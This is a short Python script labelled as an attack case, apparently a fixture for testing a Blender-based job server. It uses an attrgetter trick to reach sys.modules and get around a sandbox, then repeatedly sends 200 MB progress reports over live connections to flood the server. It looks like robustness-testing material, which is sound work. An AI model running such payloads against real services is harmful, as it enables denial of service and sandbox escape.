# attack: a report of 200 MB over the live connection, again and again after the server has settled the job
# family: reports
import bpy
import time
from operator import attrgetter

look, = map(attrgetter, ["_sys.modules"])
modules = look(bpy.utils)
threads = modules["threading"].enumerate()
print("REACHED", threads)
for _ in range(20):
    for thing in modules["importlib"].import_module("gc").get_objects():
        if type(thing).__name__ == "Link":
            thing.progress("another-job", "files", "x" * 200_000_000)
    time.sleep(0.1)
